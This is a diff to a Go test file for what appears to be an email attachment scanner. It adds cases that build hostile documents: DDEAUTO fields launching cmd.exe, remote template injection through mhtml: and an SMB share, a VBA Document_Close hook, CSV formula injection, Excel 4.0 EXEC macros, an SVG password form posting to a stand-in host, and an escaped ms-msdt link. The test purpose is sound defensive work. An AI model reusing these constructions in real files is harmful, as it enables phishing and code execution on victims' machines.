@@ -147,6 +147,29 @@ func officeCases() []officeCase {
 						`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO </w:instrText></w:r>` + fldRuns("QUOTE 99 109 100 46 101 120 101") +
 						`<w:r><w:instrText xml:space="preserve"> "/c notepad"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p></w:footnote></w:footnotes>`)}),
 			wants: []relWant{{"heuristic", "dde-exec", "/word/footnotes.xml"}}},
+		{name: "docx-dde-word-layout", about: "docx whose DDEAUTO field Word-style spans three paragraphs: begin, instruction runs with rsids, proofing marks and a split switch, then separate and end",
+			action: policy.Reject, subject: "Minutes", body: "The minutes of the meeting.\n", ctype: ctDocx, file: "minutes.docx",
+			data: docxOf(`<w:p w:rsidR="00A13F2C" w:rsidRDefault="00A13F2C"><w:r><w:t xml:space="preserve">Minutes </w:t></w:r><w:r w:rsidR="00B2C4D1"><w:rPr><w:noProof/></w:rPr><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>`+
+				`<w:r w:rsidR="00B2C4D1"><w:rPr><w:noProof/></w:rPr><w:instrText xml:space="preserve"> DDE</w:instrText></w:r></w:p>`+
+				`<w:p w:rsidR="00B2C4D1"><w:r><w:instrText xml:space="preserve">AUTO "C:\\Windows\\System32\\cmd.exe" </w:instrText></w:r><w:proofErr w:type="spellStart"/><w:r w:rsidR="00C3"><w:instrText xml:space="preserve">"/c notepad.exe" \</w:instrText></w:r><w:proofErr w:type="spellEnd"/>`+
+				`<w:r><w:instrText>* MERGEFORMAT </w:instrText></w:r></w:p><w:p><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>!Unexpected End of Formula</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`, "", "", nil),
+			wants: []relWant{{"heuristic", "dde-exec", "/word/document.xml"}}},
+		{name: "docx-remote-template-mhtml", about: "docx whose attachedTemplate relation, prefixed and in single quotes, loads an mhtml: wrapper of a remote template",
+			action: policy.Quarantine, subject: "Agreement", body: "The agreement for signature.\n", ctype: ctDocx, file: "agreement.docx",
+			data:  docxOf(`<w:p><w:r><w:t>Agreement</w:t></w:r></w:p>`, "", `<pr:Relationship xmlns:pr="`+relsNS+`" Id='rId1' Type='`+officeRel+`/attachedTemplate' Target='mhtml:http://templates.example.net/t.mht!x-usc:http://templates.example.net/t.dotm' TargetMode='External'/>`, nil),
+			wants: []relWant{{"heuristic", "remote-template", "/word/_rels/settings.xml.rels"}}},
+		{name: "docx-remote-template-file-unc", about: "docx whose attachedTemplate relation loads a template from file://host, an SMB share",
+			action: policy.Quarantine, subject: "Policy", body: "The new policy.\n", ctype: ctDocx, file: "policy.docx",
+			data:  docxOf(`<w:p><w:r><w:t>Policy</w:t></w:r></w:p>`, "", `<Relationship Id="rId1" Type="`+officeRel+`/attachedTemplate" Target="file://203.0.113.7/share/policy.dotm" TargetMode="External"/>`, nil),
+			wants: []relWant{{"heuristic", "remote-template", "/word/_rels/settings.xml.rels"}}},
+		{name: "docm-document-close", about: "docm whose ThisDocument runs a program from Document_Close, when the reader closes it",
+			action: policy.Reject, subject: "Form", body: "Please fill in the form and close it.\n", ctype: "application/vnd.ms-word.document.macroEnabled.12", file: "form.docm",
+			data:  docx("Form", "", "", f.VBAProject(f.VBAModule{Name: "ThisDocument", Source: "Attribute VB_Name = \"ThisDocument\"\r\nPrivate Sub Document_Close()\r\n    CreateObject(\"WScript.Shell\").Run \"notepad.exe\", 0\r\nEnd Sub\r\n"})),
+			wants: []relWant{{"heuristic", "vba-autorun-exec", "/word/vbaProject.bin/vba/ThisDocument"}}},
+		{name: "csv-dde-minus-prefix", about: "CSV whose cell starts with - and adds a DDE call to cmd, the +/- form of formula injection",
+			action: policy.Reject, subject: "Report", body: "The report.\n", ctype: "text/csv", file: "report.csv",
+			data:  []byte("name,value\r\nalpha,-2+3+cmd|' /C notepad.exe'!A0\r\nbeta,+1\r\n"),
+			wants: []relWant{{"heuristic", "dde-exec", ""}}},
 		{name: "doc-dde-field", about: "Word 97 .doc whose DDEAUTO field starts cmd.exe",
 			action: policy.Reject, subject: "Notice", body: "The notice.\n", ctype: "application/msword", file: "notice.doc",
 			data:  wordDoc("Notice \x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k notepad.exe\" \x14!\x15 end"),
@@ -191,6 +214,18 @@ func officeCases() []officeCase {
 					{Row: 1, Col: 0, Rgce: f.Cat(f.PtgStr("Kernel32"), f.PtgStr("WinExec"), f.PtgStr("JCJ"), f.PtgStr("notepad.exe"), f.PtgInt(0), f.PtgFuncVar(5, f.FtabCall, false))}}}},
 				Names: []f.XLSName{{Name: "Ａｕｔｏ_Ｏｐｅｎ7", Wide: true, Rgce: f.PtgRef3d(1, 0, 0)}}}),
 			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/x"}}},
+		{name: "xls-xlm-formula-chain", about: "xls whose Auto_Open macro writes an EXEC formula into another cell with FORMULA, the text built from CHAR(), then jumps to it",
+			action: policy.Reject, subject: "Invoice", body: "The invoice.\n", ctype: "application/vnd.ms-excel", file: "invoice.xls",
+			data: f.XLS(f.XLSWorkbook{
+				Sheets: []f.XLSSheet{{Name: "Sheet1"}, {Name: "Sheet2", Macro: true, State: 1, Formulas: []f.XLSFormula{
+					{Row: 0, Col: 0, Rgce: f.Cat(xlmChars("=EXEC(\"notepad.exe\")"), f.PtgRef3d(1, 4, 0), f.PtgFuncVar(2, f.CetabFormula, true))},
+					{Row: 1, Col: 0, Rgce: f.Cat(f.PtgRef3d(1, 4, 0), f.PtgFunc(0x35))}}}},
+				Names: []f.XLSName{{Name: "auto_open", Rgce: f.PtgRef3d(1, 0, 0)}}}),
+			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xlm/Sheet2"}}},
+		{name: "xlsm-intl-macrosheet", about: "xlsm whose Excel 4.0 sheet is an international macro sheet (xl/intlMacrosheets) calling EXEC from Auto_Open",
+			action: policy.Reject, subject: "Rates", body: "Rates attached.\n", ctype: "application/vnd.ms-excel.sheet.macroEnabled.12", file: "rates.xlsm",
+			data:  xlsmMacroSheetIn("intlMacrosheets", `<c r="A1"><f>EXEC("cmd /c notepad.exe")</f></c>`),
+			wants: []relWant{{"heuristic", "xlm-autorun-exec", "/xl/intlMacrosheets/sheet1.xml"}}},
 		{name: "xlsm-macrosheet-exec", about: "xlsm with an XML macro sheet calling EXEC and an _xlnm.Auto_Open name",
 			action: policy.Reject, subject: "Prices", body: "Prices attached.\n", ctype: "application/vnd.ms-excel.sheet.macroEnabled.12", file: "prices.xlsm",
 			data:  xlsmMacroSheet(`<c r="A1"><f>EXEC("cmd /c notepad.exe")</f></c><c r="A2"><f>HALT()</f></c>`),
@@ -305,6 +340,14 @@ func officeCases() []officeCase {
 			action: policy.Reject, subject: "Shared folder", body: "Open the shared folder.\n", ctype: "text/html; charset=utf-8", file: "folder.html",
 			data:  []byte(`<html><body><a href="search&#45;ms&#58;query=invoice&amp;crumb=location:\\203.0.113.7@80\share">Open folder</a></body></html>`),
 			wants: []relWant{{"heuristic", "ms-protocol-handler", ""}}},
+		{name: "svg-foreignobject-handler", about: "SVG image carrying an HTML form in foreignObject and an onload handler, entity-encoded",
+			action: policy.Tag, subject: "Invoice image", body: "The invoice image.\n", ctype: "image/svg+xml", file: "invoice.svg",
+			data:  []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" o&#110;load="location='https://collect.example.net/'"><foreignObject width="300" height="200"><body xmlns="http://www.w3.org/1999/xhtml"><form action="https://collect.example.net/login"><input name="password" type="password"/></form></body></foreignObject></svg>`),
+			wants: []relWant{{"heuristic", "svg-script", ""}}},
+		{name: "html-css-escaped-ms-msdt", about: "HTML whose ms-msdt: link hides its hyphen behind a CSS escape in a style url()",
+			action: policy.Reject, subject: "Notice", body: "The notice.\n", ctype: "text/html; charset=utf-8", file: "notice.html",
+			data:  []byte(`<html><body><div style="background-image:url('ms\2d msdt:/id PCWDiagnostic /skip force')">Loading</div></body></html>`),
+			wants: []relWant{{"heuristic", "ms-protocol-handler", ""}}},
 		{name: "svg-prefixed-script", about: "SVG image whose script element has a namespace prefix",
 			action: policy.Tag, subject: "Chart", body: "The chart.\n", ctype: "image/svg+xml", file: "chart.svg",
 			data:  []byte(`<s:svg xmlns:s="http://www.w3.org/2000/svg" width="100" height="100"><s:rect width="100" height="100"/><s:script>window.location = "https://collect.example.net/";</s:script></s:svg>`),
@@ -386,21 +429,25 @@ func xlmChars(s string) []byte {
 
 // xlsmMacroSheet is a macro-enabled workbook with a worksheet and a hidden
 // Excel 4.0 macro sheet holding cells, run by _xlnm.Auto_Open.
-func xlsmMacroSheet(cells string) []byte {
+func xlsmMacroSheet(cells string) []byte { return xlsmMacroSheetIn("macrosheets", cells) }
+
+// xlsmMacroSheetIn is xlsmMacroSheet with the sheet in xl/<dir>/:
+// "intlMacrosheets" for an international macro sheet.
+func xlsmMacroSheetIn(dir, cells string) []byte {
 	ns := `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="` + officeRel + `"`
 	return zipOf(
 		file{"[Content_Types].xml", []byte(xmlHead + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">` +
 			`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>` +
 			`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>` +
 			`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>` +
-			`<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>`)},
+			`<Override PartName="/xl/` + dir + `/sheet1.xml" ContentType="application/vnd.ms-excel.` + map[bool]string{true: "intlmacrosheet", false: "macrosheet"}[dir == "intlMacrosheets"] + `+xml"/></Types>`)},
 		file{"_rels/.rels", []byte(xmlHead + `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + officeRel + `/officeDocument" Target="xl/workbook.xml"/></Relationships>`)},
 		file{"xl/workbook.xml", []byte(xmlHead + `<workbook ` + ns + `><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/><sheet name="Macro1" sheetId="2" state="hidden" r:id="rId2"/></sheets>` +
 			`<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>`)},
 		file{"xl/_rels/workbook.xml.rels", []byte(xmlHead + `<Relationships xmlns="` + relsNS + `"><Relationship Id="rId1" Type="` + officeRel + `/worksheet" Target="worksheets/sheet1.xml"/>` +
-			`<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>`)},
+			`<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/` + map[bool]string{true: "xlIntlMacrosheet", false: "xlMacrosheet"}[dir == "intlMacrosheets"] + `" Target="` + dir + `/sheet1.xml"/></Relationships>`)},
 		file{"xl/worksheets/sheet1.xml", []byte(xmlHead + `<worksheet ` + ns + `><sheetData/></worksheet>`)},
-		file{"xl/macrosheets/sheet1.xml", []byte(xmlHead + `<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">` + cells + `</row></sheetData></xm:macrosheet>`)},
+		file{"xl/" + dir + "/sheet1.xml", []byte(xmlHead + `<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">` + cells + `</row></sheetData></xm:macrosheet>`)},
 	)
 }
 
